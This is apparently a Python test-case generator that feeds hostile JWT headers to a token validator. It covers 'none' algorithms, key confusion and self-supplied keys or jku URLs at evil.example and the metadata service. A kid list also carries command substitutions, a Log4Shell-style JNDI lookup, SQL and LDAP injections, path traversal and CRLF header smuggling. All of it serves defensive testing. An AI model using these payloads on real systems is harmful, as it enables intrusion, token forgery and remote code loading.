"""Family `header`: a good token but for its JOSE header. The good key signs it unless a row says otherwise."""

from __future__ import annotations

import base64
import datetime
import json
from collections.abc import Iterator
from functools import cache
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.x509.oid import NameOID

from hostile.case import KEYS, STRANGERS_KEY, Case, Expect, World, invalid_token, token_case
from hostile.families.json_texts import not_an_object
from support.jwts import b64, jwk, rsa_key, sign_parts

ALGORITHM = invalid_token("algorithm_refused")
HEADER = invalid_token("header_refused")
TYPE = invalid_token("type_mismatch")
UNKNOWN_KEY = invalid_token("key_unknown")
SIGNATURE = invalid_token("signature_invalid")
UNREAD = invalid_token("token_malformed")

# RFC 8725 §3.1: what is not one of ours is refused, however it is spelt.
ALGORITHMS: list[Any] = [
    *("none", "None", "NONE", "nOnE", "NoNe", "noNE", " none", "none ", "none\0", "", " ", "null"),
    *("HS256", "HS384", "HS512", "hs256", "HS1", "AES", "A128KW", "dir", "PBES2-HS256+A128KW", "RSA-OAEP", "RSA1_5"),
    *("rs256", "Rs256", "RS 256", "RS-256", " RS256", "RS256 ", "RS256\0", "RS256\n", "RS256,none", "ＲＳ256", "RЅ256"),
    *(
        "RS1",
        "PS1",
        "ES1",
        "RS224",
        "RS2560",
        "RS25",
        "SHA256",
        "RSA",
        "ES256K",
        "ES256k",
        "Ed448x",
        "ED25519",
        "eddsa",
    ),
    *("ML-DSA-44", "SLH-DSA-SHA2-128s", "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256", "*", "any", "RS256|HS256"),
    *(
        None,
        True,
        False,
        0,
        1,
        256,
        1.5,
        [],
        ["RS256"],
        ["none"],
        ["none", "RS256"],
        {},
        {"RS256": 1},
        {"name": "RS256"},
    ),
]

TYPES: list[Any] = [
    *(
        "JWT",
        "jwt",
        "Jwt",
        "",
        " ",
        "at",
        "jwt+at",
        "at+JWS",
        "at+jws",
        "atjwt",
        "at-jwt",
        "at jwt",
        "at+jwt ",
        " at+jwt",
    ),
    *("at+jwt\0", "at+jwt;v=1", "at+jwt,JWT", "ａt+jwt", "at%2Bjwt", "at+jwt+at", "aat+jwt", "x/at+jwt", "text/at+jwt"),
    *(
        "application/",
        "application/jwt",
        "application/application/at+jwt",
        "application/at+jwt;v=1",
        "application//at+jwt",
    ),
    *("id+jwt", "logout+jwt", "dpop+jwt", "secevent+jwt", "oauth-authz-req+jwt", "token-introspection+jwt", "rt+jwt"),
    *("client-authentication+jwt", "oauth-id-jag+jwt", "refresh+jwt", "entity-statement+jwt", "kb+jwt", "dc+sd-jwt"),
    *("vc+sd-jwt", "oauth-client-attestation+jwt", "oauth-client-attestation-pop+jwt", "statuslist+jwt", "wit+jwt"),
    *("userinfo+jwt", "JOSE", "JOSE+JSON", "JWE", "passport", "null", "none", "*"),
    *(None, True, False, 0, 1, 1.5, [], ["at+jwt"], {}, {"at+jwt": 1}),
]

KIDS_UNKNOWN = {
    "of another case": "K-RSA",
    "with a blank behind": "k-rsa ",
    "with a blank in front": " k-rsa",
    "with a tail": "k-rsa2",
    "a prefix": "k-rs",
    "full-width": "ｋ-rsa",
    "percent-encoded": "k%2Drsa",
    "a path": "../../../../dev/null",
    "an absolute path": "/etc/passwd",
    "a path of another system": "..\\..\\windows\\win.ini",
    "a file URL": "file:///dev/null",
    "an http URL": "http://169.254.169.254/latest/meta-data/",
    "a data URL": "data:application/json,{}",
    "SQL": "' OR '1'='1' --",
    "SQL union": "x' UNION SELECT 'secret' --",
    "NoSQL": '{"$ne": null}',
    "LDAP": "*)(uid=*))(|(uid=*",
    "a command": "k-rsa; cat /etc/passwd",
    "a pipe": "|id",
    "a substitution": "$(id)",
    "back quotes": "`id`",
    "a template": "{{7*7}}",
    "a lookup": "${jndi:ldap://evil.example/a}",
    "a format": "%s%s%n{0.__class__}",
    "XML": "<!DOCTYPE x>",
    "of every key": "*",
    "a number as text": "0",
    "null as text": "null",
    "an attribute": "__class__",
    "an emoji": "🔑",
    "256 letters": "k" * 256,
}
KIDS_REFUSED: dict[str, Any] = {
    "null": None,
    "empty": "",
    "a number": 1,
    "a fraction": 1.5,
    "true": True,
    "false": False,
    "a list": ["k-rsa"],
    "an object": {"kid": "k-rsa"},
    "257 letters": "k" * 257,
    "2000 letters": "k" * 2000,
    "a NUL": "k-rsa\0",
    "a NUL in front": "\0k-rsa",
    "a line end": "k-rsa\n",
    "CR LF and a header": "k-rsa\r\nX-Admin: 1",
    "a tab": "k-rsa\t",
    "an escape sequence": "\x1b[2Jk-rsa",
    "a delete": "k-rsa\x7f",
    "a zero width space": "k-rsa\u200b",
    "a right to left override": "\u202ek-rsa",
    "a line separator": "k-rsa\u2028",
    "a no-break space": "k-rsa\u00a0",
    "a lone surrogate": "\ud800",
}

UNSUPPORTED: dict[str, dict[str, Any]] = {
    "crit unknown": {"crit": ["x"], "x": 1},
    "crit unknown and absent": {"crit": ["x"]},
    "crit empty": {"crit": []},
    "crit null": {"crit": None},
    "crit a text": {"crit": "exp"},
    "crit an object": {"crit": {"exp": 1}},
    "crit a number": {"crit": 1},
    "crit false": {"crit": False},
    "crit with a number": {"crit": [1]},
    "crit with null": {"crit": [None]},
    "crit with an empty text": {"crit": [""], "": 1},
    "crit twice the same": {"crit": ["exp", "exp"], "exp": 1},
    "crit alg": {"crit": ["alg"]},
    "crit exp": {"crit": ["exp"], "exp": 4_000_000_000},
    "crit b64 true": {"crit": ["b64"], "b64": True},
    "crit b64 false": {"crit": ["b64"], "b64": False},
    "crit URN": {"crit": ["urn:example:x"], "urn:example:x": 1},
    "b64 true": {"b64": True},
    "b64 false": {"b64": False},
    "b64 null": {"b64": None},
    "b64 as text": {"b64": "false"},
    "b64 zero": {"b64": 0},
    "zip DEF": {"zip": "DEF"},
    "zip GZIP": {"zip": "GZIP"},
    "zip empty": {"zip": ""},
    "zip null": {"zip": None},
    "cty JWT": {"cty": "JWT"},
    "cty jwt": {"cty": "jwt"},
    "cty application/jwt": {"cty": "application/jwt"},
    "cty APPLICATION/JWT": {"cty": "APPLICATION/JWT"},
    "cty a number": {"cty": 1},
    "cty a list": {"cty": ["JWT"]},
    "cty an object": {"cty": {}},
    "cty true": {"cty": True},
}


def cases(world: World) -> Iterator[Case]:
    for value in ALGORITHMS:
        yield _case(world, f"alg {json.dumps(value)}", "8725-3.1 8725-3.2", {"alg": value}, ALGORITHM)
    yield _case(world, "alg missing", "8725-3.1", {"alg": ...}, ALGORITHM)
    yield _case(world, "ALG in place of alg", "8725-3.1", {"alg": ..., "ALG": "RS256"}, ALGORITHM)
    yield from _unsigned(world)
    yield from _wrong_algorithm_for_the_key(world)
    for value in TYPES:
        yield _case(world, f"typ {json.dumps(value)}", "P3 9068-2.1 8725-3.11", {"typ": value}, TYPE)
    yield _case(world, "typ missing", "P3 9068-2.1", {"typ": ...}, TYPE)
    yield _case(world, "TYP in place of typ", "P3 9068-2.1", {"typ": ..., "TYP": "at+jwt"}, TYPE)
    for name, kid in KIDS_UNKNOWN.items():
        yield _case(world, f"kid {name}", "P9 8725-3.10", {"kid": kid}, UNKNOWN_KEY)
    for name, kid in KIDS_REFUSED.items():
        yield _case(world, f"kid {name}", "P9 8725-3.10", {"kid": kid}, HEADER)
    yield _case(world, "kid missing where several keys fit", "RFC 7515 §4.1.4", {"kid": ...}, UNKNOWN_KEY)
    yield _case(world, "KID in place of kid", "RFC 7515 §4.1.4", {"kid": ..., "KID": "k-rsa"}, UNKNOWN_KEY)
    for name, members in UNSUPPORTED.items():
        yield _case(world, name, "P10 RFC 7515 §4.1.11 RFC 7797", members, HEADER)
    yield from _received_keys(world)
    payload = json.dumps(world.claims()).encode()
    for name, text in not_an_object(world.header()).items():
        expect = UNREAD
        yield token_case(f"header/is {name}", "P6 P8 8725-3.7", world.signed(text, payload), expect)
    honest = {"kid": "k-rsa", "typ": "at+jwt"}
    for first, second in (("none", "RS256"), ("RS256", "none"), ("HS256", "RS256"), ("RS256", "HS256")):
        text = json.dumps(honest).encode()[:-1] + f', "alg": "{first}", "alg": "{second}"}}'.encode()
        yield token_case(f"header/alg {first}, then alg {second}", "P6", world.signed(text, payload), UNREAD)


def _case(world: World, name: str, source: str, header: dict[str, Any], expect: Expect) -> Case:
    return token_case(f"header/{name}", source, world.token(header), expect)


def _unsigned(world: World) -> Iterator[Case]:
    """The classical forgery: `none`, with whatever somebody may take for no signature."""
    for spelling in ("none", "None", "NONE", "nOnE"):
        head, body, _ = world.token({"alg": spelling}).split(".")
        yield token_case(f"header/unsigned {spelling}, empty", "8725-3.2", f"{head}.{body}.", UNREAD)
        yield token_case(f"header/unsigned {spelling}, two parts", "8725-3.2", f"{head}.{body}", UNREAD)
        for name, signature in {"zero": b64(b"\0"), "the word none": "none", "its header": head}.items():
            yield token_case(f"header/unsigned {spelling}, {name}", "8725-3.2", f"{head}.{body}.{signature}", ALGORITHM)


def _wrong_algorithm_for_the_key(world: World) -> Iterator[Case]:
    rsa = ("RS256", "RS384", "RS512", "PS256", "PS384", "PS512")
    for said in rsa:
        for made in rsa:
            if said != made:
                text = world.signed(_header(world, alg=said), _payload(world), algorithm=made)
                yield token_case(f"header/says {said}, signed with {made}", "8725-3.1", text, SIGNATURE)
    for said in rsa[1:]:  # the key's own JWK says RS256
        text = world.signed(_header(world, "k-rs256", alg=said), _payload(world), kid="k-rs256", algorithm=said)
        yield token_case(f"header/{said} with a key for RS256", "8725-3.1 CVE-2026-48523", text, UNKNOWN_KEY)
    for kid, (own, _) in KEYS.items():
        for said in ("ES256", "ES384", "ES512", "EdDSA", "RS256", "PS256"):
            if said != own and not (kid == "k-rsa" and said in rsa) and not (kid == "k-rs256" and said in rsa):
                text = world.signed(_header(world, kid, alg=said), _payload(world), kid=kid)
                yield token_case(f"header/{said} with {kid}", "8725-3.1 P13", text, UNKNOWN_KEY)


def _received_keys(world: World) -> Iterator[Case]:
    """A stranger's token that brings its own key, or says where it is (RFC 8725 §3.10)."""
    own = jwk(STRANGERS_KEY, kid="k-rsa")
    chain = [base64.b64encode(certificate()).decode()]
    url = "https://evil.example/keys.json"
    brought: dict[str, dict[str, Any]] = {
        "jwk": {"jwk": own},
        "jku": {"jku": url},
        "x5u": {"x5u": url},
        "x5c": {"x5c": chain},
        "x5t": {"x5t": b64(b"t" * 20), "x5t#S256": b64(b"t" * 32)},
        "all of them": {"jwk": own, "jku": url, "x5u": url, "x5c": chain},
        "jku that redirects": {"jku": "https://issuer.example.com@evil.example/jwks.json"},
        "jku of this machine": {"jku": "http://127.0.0.1:8080/keys.json"},
        "jku of the metadata service": {"jku": "http://169.254.169.254/latest/meta-data/"},
        "jku a file": {"jku": "file:///dev/null"},
    }
    for name, members in brought.items():
        for which, kid, expect in (
            ("the good kid", "k-rsa", SIGNATURE),
            ("an unknown kid", "mine", UNKNOWN_KEY),
            ("no kid", ..., UNKNOWN_KEY),
        ):
            header = json.dumps(
                {name: value for name, value in {**world.header(), "kid": kid, **members}.items() if value is not ...}
            )
            text = sign_parts(header.encode(), _payload(world), key=STRANGERS_KEY)
            yield token_case(f"header/brings {name}, {which}", "P11 8725-3.10 CVE-2026-27962", text, expect)


def _header(world: World, kid: str = "k-rsa", **changes: Any) -> bytes:
    return json.dumps(world.header(kid, **changes)).encode()


def _payload(world: World) -> bytes:
    return json.dumps(world.claims()).encode()


@cache
def certificate() -> bytes:
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "issuer.example.com")])
    begin = datetime.datetime(2026, 1, 1, tzinfo=datetime.timezone.utc)
    made = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(STRANGERS_KEY.public_key())
        .serial_number(1)
        .not_valid_before(begin)
        .not_valid_after(begin + datetime.timedelta(days=3650))
        .sign(rsa_key(name="of a stranger"), hashes.SHA256())
    )
    return made.public_bytes(serialization.Encoding.DER)
